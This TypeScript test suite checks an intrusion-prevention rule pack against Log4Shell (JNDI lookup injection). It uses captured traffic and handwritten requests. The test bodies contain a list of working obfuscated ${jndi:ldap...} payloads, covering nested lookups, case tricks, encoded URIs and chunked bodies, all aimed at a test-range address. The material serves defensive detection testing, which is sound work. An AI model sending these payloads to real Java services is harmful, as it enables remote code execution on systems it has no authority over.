/**
 * Log4Shell virtual patch (sids 7102000-7102003) against real and re-framed traffic, with the whole
 * built-in pack loaded (prevent mode).
 *
 * Traffic:
 * - traffic/*.pcap were captured with tcpdump by traffic/capture.sh: curl 7.88 (-H, -A, -b,
 *   --data-urlencode, --path-as-is) in network namespace tsv-web1-l4j-c (198.18.3.11) against a
 *   python3 http.server in tsv-web1-l4j-s (198.18.3.12) that answers 200 to everything. Attacks: nested
 *   `${::-x}` defaults in X-Api-Version, `${env:X:-x}` defaults in User-Agent, `${lower:}`/`${upper:}`
 *   percent-encoded in the query, `${date:'x'}` in a URL-encoded form field, mixed-case `${JnDi:` in a
 *   cookie; and over HTTP/2 (curl --http2-prior-knowledge to a node `http2` h2c server on port 8080,
 *   HPACK-coded) `${${upper:j}${::-n}di:` in X-Forwarded-For. Benign: a blog post about JNDI with shell
 *   variables in a form, a search for "jndi" with `${HOME}` in a header, the same over HTTP/2.
 * - Segmented variants resend the captured requests (clientBytes) with TcpConversation; the remaining
 *   variants are requests written here after the obfuscation lists published in December 2021
 *   (Log4j's own lookup syntax: `${prefix:key}`, `:-` defaults, nested lookups evaluated first).
 * - One test runs `tsugi inspect --simulate-ips` on a capture, as an operator would.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { packRig } from "../../testing.ts";
import { benignCapturesTest, blockedCaptureTests, cutCapturesTest, folderTest, rulePcre, sendRequest } from "../../http.testing.ts";

const here = dirname(fileURLToPath(import.meta.url));
const pcap = (name: string): string => join(here, "traffic", `${name}.pcap`);
const rig = packRig();
const H = "Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n";

folderTest(here);

blockedCaptureTests(rig, here, [
  ["attack-header-nested", 7102001],
  ["attack-ua-env", 7102001],
  ["attack-uri-encoded", 7102000],
  ["attack-body-date", 7102003],
  ["attack-cookie", 7102002],
  ["attack-h2-header", 7102001],
], (name, sid) => `captured curl ${name} is blocked by ${sid}`);

benignCapturesTest(rig, here, "captured benign JNDI text and ${HOME} (HTTP/1.1 and HTTP/2) raise nothing from the whole pack", [
  "benign-jndi-text",
  "benign-search",
  "benign-h2",
]);

cutCapturesTest(rig, here, "the captured requests in 1-byte segments and reversed 7-byte pieces are still blocked", [
  { capture: "attack-header-nested", sid: 7102001, size: 1 },
  { capture: "attack-body-date", sid: 7102003, size: 7, reverse: true },
  { capture: "attack-uri-encoded", sid: 7102000, size: 1 },
]);

test("obfuscations of the lookup in a header are all blocked", () => {
  const payloads = [
    "${jndi:ldap://198.18.3.11/a}",
    "${JNDI:LDAP://198.18.3.11/a}",
    "${${lower:jndi}:${lower:rmi}://198.18.3.11/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://198.18.3.11/a}",
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://198.18.3.11/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.18.3.11/a}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://198.18.3.11/a}",
    "${${::-j}nd${upper:\xc4\xb1}:ldap://198.18.3.11/a}", // ${upper:ı} (UTF-8) yields I
    "${jn${::-}${::-}${::-}di${::-:}dns://198.18.3.11/a}",
    "${${sys:os.nope:-j}ndi:iiop://198.18.3.11/a}",
  ];
  for (const p of payloads) {
    sendRequest(rig, `GET / HTTP/1.1\r\n${H}Referer: ${p}\r\n\r\n`);
    assert.ok(rig.blockedBy(7102001), p);
  }
});

test("URI: %u and double percent encoding, and a chunked JSON body, are blocked", () => {
  sendRequest(rig, `GET /a?x=%u0024%u007bjndi:ldap://h/a} HTTP/1.1\r\n${H}\r\n`);
  assert.ok(rig.blockedBy(7102000));
  sendRequest(rig, `GET /a?x=%2524%257B%2524%257B::-j%257Dndi:ldap://h/a%257D HTTP/1.1\r\n${H}\r\n`);
  assert.ok(rig.blockedBy(7102000));
  const json = '{"user":"${${env:NaN:-j}ndi${env:NaN:-:}ldap://h/a}"}';
  const chunked = `${(json.length - 20).toString(16)}\r\n${json.slice(0, -20)}\r\n14\r\n${json.slice(-20)}\r\n0\r\n\r\n`;
  sendRequest(rig, `POST /api HTTP/1.1\r\n${H}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`);
  assert.ok(rig.blockedBy(7102003));
});

test("the lookup regex: evaluation must spell jndi:, plain text passes", () => {
  const re = rulePcre(join(here, "log4shell.rules"), 7102001);
  const b = (s: string): Uint8Array => Uint8Array.from(s, (c) => c.charCodeAt(0));
  const hit = (s: string): boolean => re.exec(b(s), 0, s.length);
  for (const s of ["${jndi:x}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:x}", "${${env:A:-j}ndi${env:A:-:}x}"]) assert.ok(hit(s), s);
  for (
    const s of [
      "${HOME}",
      "JNDI and jndi: names",
      "${HOME} jndi:ldap",
      "${HOME}/jndi:x",
      "${user.name}: jndi: x",
      "${HOME:-/tmp}/jndi:",
      "$jndi:x",
      "{jndi:x}",
      "${j ndi:x}",
      "${jnd i:x}",
      "${jndx:x}",
    ]
  ) assert.not.ok(hit(s), s);
  // linear work on hostile input (the lookup syntax repeated without an end)
  const hostile = b("${${${lower:".repeat(8000));
  re.exec(hostile, 0, hostile.length);
  assert.ok(re.lastSteps < 200 * hostile.length, `${re.lastSteps} steps for ${hostile.length} bytes`);
});

test("tsugi inspect --simulate-ips blocks the captured attack with the built-in packs", () => {
  const dir = mkdtempSync(join(tmpdir(), "tsugi-l4j-"));
  try {
    const cli = join(here, "../../../../tsugi.ts");
    const r = spawnSync(process.execPath, ["--import", "tsx", cli, "inspect", "-r", pcap("attack-ua-env"), "--simulate-ips", "-l", dir], {
      encoding: "utf8",
      cwd: join(here, "../../../.."),
    });
    assert.is(r.status, 0, r.stderr);
    const eve = readFileSync(join(dir, "eve.json"), "utf8").split("\n").filter((l) => l !== "").map((l) => JSON.parse(l) as Record<string, unknown>);
    const alerts = eve.filter((e) => e.event_type === "alert").map((e) => e.alert as { signature_id: number; action: string });
    assert.ok(alerts.some((a) => a.signature_id === 7102001 && a.action === "blocked"), JSON.stringify(alerts));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test.run();
